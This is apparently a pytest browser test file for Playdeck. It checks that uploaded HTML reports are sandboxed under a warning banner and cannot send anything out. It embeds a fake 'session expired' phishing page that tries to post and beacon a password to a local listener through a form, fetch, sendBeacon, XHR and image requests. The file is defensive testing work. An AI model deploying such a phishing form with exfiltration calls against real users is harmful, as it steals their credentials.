"""An uploaded HTML report cannot phish on Playdeck's URL: in real Chromium, a fake "session
expired" form in a report neither posts nor sends what it holds anywhere (a local listener
hears nothing), and the report only ever shows framed under an "uploaded report" banner."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from playdeck.models import Report

from .conftest import BrowserPage

pytestmark = pytest.mark.browser

SUBMIT = Path(__file__).parents[1] / "data" / "phenx" / "submit.json"

PHISHING = """<!doctype html><html><head><title>Playdeck</title></head><body>
<h1>Your session expired</h1>
<form id="login" action="{listener}/form" method="post">
  <input name="password" value="hunter2"><button type="submit">Sign in</button>
</form>
<img src="{listener}/inline-img">
<script>
  const L = "{listener}";
  try {{ fetch(L + "/fetch?pw=hunter2", {{mode: "no-cors"}}).catch(() => {{}}); }} catch (e) {{}}
  try {{ navigator.sendBeacon(L + "/beacon", "pw=hunter2"); }} catch (e) {{}}
  try {{ const x = new XMLHttpRequest(); x.open("GET", L + "/xhr"); x.send(); }} catch (e) {{}}
  new Image().src = L + "/img?pw=hunter2";
  document.body.setAttribute("data-ran", "yes");
  try {{ document.getElementById("login").submit(); }} catch (e) {{}}
</script>
</body></html>"""


class Listener:
    """A real HTTP server on a free loopback port that records every request it gets."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        heard = self.requests

        class Handler(BaseHTTPRequestHandler):
            def _record(self) -> None:
                heard.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_POST = do_OPTIONS = _record  # noqa: N815 - http.server names

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> Listener:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    with Listener() as running:
        httpx.get(f"{running.url}/ping")  # the listener does hear what reaches it
        assert running.requests == ["GET /ping"]
        running.requests.clear()
        yield running


def _upload_report(api: httpx.Client, html: str) -> None:
    body = orjson.loads(SUBMIT.read_bytes())
    test_cases = body.pop("testCases")
    test_run = {k: body[k] for k in ("status", "startTime", "duration")}
    response = api.post(
        "/api/test-runs/upload",
        data={
            "projectName": "web",
            "testRun": orjson.dumps(test_run).decode(),
            "testCases": orjson.dumps(test_cases).decode(),
        },
        files={"report_html": ("index.html", html.encode(), "text/html")},
    )
    assert response.status_code == 201, response.text


def test_a_phishing_report_cannot_post_or_send_anything(
    make_live_server: Callable[..., Any],
    make_page: Callable[..., BrowserPage],
    listener: Listener,
    db: Session,
) -> None:
    server = make_live_server()
    with httpx.Client(base_url=server.url) as api:
        _upload_report(api, PHISHING.format(listener=listener.url))
    report_id = db.scalars(select(Report.id)).one()

    page = make_page().page
    page.goto(f"{server.url}/api/reports/{report_id}/index.html")
    # Opened as a page, the report is shown framed, under the banner, on Playdeck's viewer.
    assert page.url == f"{server.url}/reports/{report_id}/index.html"
    banner = page.locator("#user-content-banner")
    assert "Uploaded report" in banner.inner_text()
    assert "never type your Playdeck password" in banner.inner_text()

    frame = page.frame_locator("iframe.user-content__frame")
    frame.locator("body[data-ran=yes]").wait_for()  # the report's script did run
    frame.get_by_role("button", name="Sign in").click()
    page.wait_for_timeout(1500)  # time for anything that slipped through to arrive
    assert listener.requests == []


def test_with_a_content_origin_the_report_runs_on_another_host(
    make_live_server: Callable[..., Any],
    make_page: Callable[..., BrowserPage],
    listener: Listener,
    db: Session,
) -> None:
    server = make_live_server()
    port = server.url.rsplit(":", 1)[1]
    # The port is known only once the server listens; the app reads these per request.
    server.settings.public_url = server.url
    server.settings.content_url = f"http://localhost:{port}"
    with httpx.Client(base_url=server.url) as api:
        _upload_report(api, PHISHING.format(listener=listener.url))
    report_id = db.scalars(select(Report.id)).one()

    page = make_page().page
    page.goto(f"{server.url}/api/reports/{report_id}/index.html")
    assert page.url == f"{server.url}/reports/{report_id}/index.html"
    frame = page.frame_locator("iframe.user-content__frame")
    frame.locator("body[data-ran=yes]").wait_for()
    (framed,) = [f for f in page.frames if f != page.main_frame]
    assert framed.url.startswith(f"http://localhost:{port}/usercontent/report.{report_id}.")
    frame.get_by_role("button", name="Sign in").click()
    page.wait_for_timeout(1500)
    assert listener.requests == []
